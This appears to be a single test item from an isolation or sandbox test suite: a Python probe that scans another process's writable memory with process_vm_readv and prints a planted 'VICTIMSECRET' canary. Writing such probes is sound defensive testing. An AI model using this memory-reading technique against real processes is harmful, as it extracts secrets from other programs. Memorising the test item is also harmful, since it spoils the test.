# id: 443
# name: memory_of_another_by_a_call
# category: os
# technique: process_vm_readv
# breach: victimsecret
# looks_like: memory of a process outside reaches the output
# baseline: inproc
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
import re

libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
for line in open('/proc/%d/maps' % CANARY_PID):
    low, high = (int(part, 16) for part in line.split()[0].split('-'))
    if ' rw' not in line or high - low > 1 << 26:
        continue
    buffer = ctypes.create_string_buffer(high - low)
    mine, theirs = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), high - low), (ctypes.c_ulong * 2)(low, high - low)
    libc.process_vm_readv(CANARY_PID, mine, 1, theirs, 1, 0)
    found = re.findall(rb'VICTIMSECRET-[0-9a-f]{12}', buffer.raw)
    if found:
        print(found[0])
        break
